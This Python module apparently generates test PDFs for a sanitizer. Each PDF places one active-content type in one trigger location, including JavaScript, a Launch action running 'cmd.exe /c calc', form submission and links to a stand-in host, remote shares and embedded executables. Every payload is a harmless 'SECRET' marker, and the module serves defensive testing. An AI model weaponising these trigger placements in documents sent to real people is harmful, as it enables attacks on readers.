"""PDFs with every kind of action, in every place where a reader looks for one (ISO 32000-1, 12.6)."""

import io

from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

JS = "app.alert('SECRET')"
ACTIONS = {
    "javascript": lambda pdf: Dictionary(S=Name.JavaScript, JS=JS),
    "javascript stream": lambda pdf: Dictionary(S=Name.JavaScript, JS=Stream(pdf, JS.encode())),
    "launch": lambda pdf: Dictionary(S=Name.Launch, F="SECRET.exe", Win=Dictionary(F="cmd.exe", P="/c calc")),
    "uri": lambda pdf: Dictionary(S=Name.URI, URI="https://SECRET.example/"),
    "javascript uri": lambda pdf: Dictionary(S=Name.URI, URI="javascript:alert('SECRET')"),
    "submit": lambda pdf: Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="https://SECRET.example/")),
    "import": lambda pdf: Dictionary(S=Name.ImportData, F="SECRET.fdf"),
    "remote": lambda pdf: Dictionary(S=Name.GoToR, F="\\\\SECRET.example\\share", D=Array([0, Name.Fit])),
    "embedded": lambda pdf: Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N="SECRET")),
    "rendition": lambda pdf: Dictionary(S=Name.Rendition, JS=JS, OP=0),
    "movie": lambda pdf: Dictionary(S=Name.Movie, T="SECRET"),
    "sound": lambda pdf: Dictionary(S=Name.Sound, Sound=Stream(pdf, b"SECRET")),
    "named": lambda pdf: Dictionary(S=Name.Named, N=Name.Print),
    "hide": lambda pdf: Dictionary(S=Name.Hide, T="SECRET"),
    "layers": lambda pdf: Dictionary(S=Name.SetOCGState, State=Array([])),
    "reset": lambda pdf: Dictionary(S=Name.ResetForm),
    "flash": lambda pdf: Dictionary(S=Name.RichMediaExecute, CMD=Dictionary(C="SECRET")),
    "chain": lambda pdf: Dictionary(S=Name.GoTo, D=Array([0]), Next=Dictionary(S=Name.JavaScript, JS=JS)),
}


def on_open(pdf, action):
    pdf.Root.OpenAction = action


def on_close(pdf, action):
    pdf.Root.AA = Dictionary(WC=action, WS=action, DS=action, WP=action, DP=action)


def by_name(pdf, action):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), action])))


def on_page(pdf, action):
    pdf.pages[0].obj.AA = Dictionary(O=action, C=action)


def on_link(pdf, action):
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 612, 792]), A=action)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def on_field(pdf, action):
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T="name",
            V="Amina",
            Rect=Array([50, 50, 200, 80]),
            AA=Dictionary(K=action, F=action, V=action, C=action, Fo=action),
            A=action,
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True, DA="/Helv 0 Tf")


def on_outline(pdf, action):
    line = pdf.make_indirect(Dictionary(Title="SECRET", A=action))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=line, Last=line, Count=1))
    line.Parent = pdf.Root.Outlines


def in_resources(pdf, action):
    """Where no reader should look, and somebody might hide it."""
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, A=action, AA=Dictionary(O=action))
    pdf.pages[0].obj.Resources = Dictionary(Font=Dictionary(F=font, AA=font), XObject=Dictionary(X=action))


def in_pages(pdf, action):
    pdf.Root.Pages.AA = Dictionary(O=action)


PLACES = (on_open, on_close, by_name, on_page, on_link, on_field, on_outline, in_resources, in_pages)


def attacks():
    """{name: bytes}: each action in each place, and what else a PDF may carry along."""
    made = {}
    for place in PLACES:
        for name, action in ACTIONS.items():
            made[f"{name} {place.__name__}.pdf"] = _with(
                lambda pdf, place=place, action=action: place(pdf, action(pdf))
            )
    for carry in (
        attachment,
        attached_to_page,
        form,
        flash,
        model,
        external_stream,
        printer_program,
        photo_facts,
        hidden,
    ):
        made[f"{carry.__name__}.pdf"] = _with(carry)
    return made


def _with(change):
    with Pdf.new() as pdf:
        pdf.add_blank_page(page_size=(612, 792))
        change(pdf)
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def _file(pdf):
    return Dictionary(Type=Name.Filespec, F="SECRET.exe", EF=Dictionary(F=Stream(pdf, b"MZ SECRET")))


def attachment(pdf):
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("SECRET.exe"), _file(pdf)])))
    pdf.Root.AF = Array([_file(pdf)])


def attached_to_page(pdf):
    pin = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 20, 20]), FS=_file(pdf))
    pdf.pages[0].obj.Annots = Array([pin])
    pdf.pages[0].obj.AF = Array([_file(pdf)])


def form(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(pdf, b"<xdp>SECRET</xdp>"))


def flash(pdf):
    rich = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    rich.RichMediaContent = Dictionary(Assets=Dictionary(Names=Array([String("SECRET"), _file(pdf)])))
    pdf.pages[0].obj.Annots = Array([rich])


def model(pdf):
    body = Stream(pdf, b"U3D SECRET")
    body.Type, body.OnInstantiate = Name("/3D"), Stream(pdf, JS.encode())
    three = Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=Array([0, 0, 9, 9]))
    three["/3DD"] = body
    pdf.pages[0].obj.Annots = Array([three])


def external_stream(pdf):
    body = Stream(pdf, b"")
    body.F = Dictionary(Type=Name.Filespec, F="/etc/SECRET")
    pdf.pages[0].obj.Contents = body


def printer_program(pdf):
    program = Stream(pdf, b"%!PS (SECRET) run")
    program.Type, program.Subtype = Name.XObject, Name.PS
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(P=program))


def photo_facts(pdf):
    pdf.Root.Metadata = Stream(pdf, b"<x:xmpmeta>SECRET</x:xmpmeta>")
    pdf.pages[0].obj.Metadata = Stream(pdf, b"SECRET")
    pdf.pages[0].obj.PieceInfo = Dictionary(App=Dictionary(Private="SECRET"))
    pdf.docinfo["/Author"] = "SECRET"


def hidden(pdf):
    """Nothing points to it, and it is in the file all the same."""
    pdf.pages[0].obj.Resources = Dictionary(Properties=Dictionary(P=Dictionary(S=Name.JavaScript, JS=JS)))
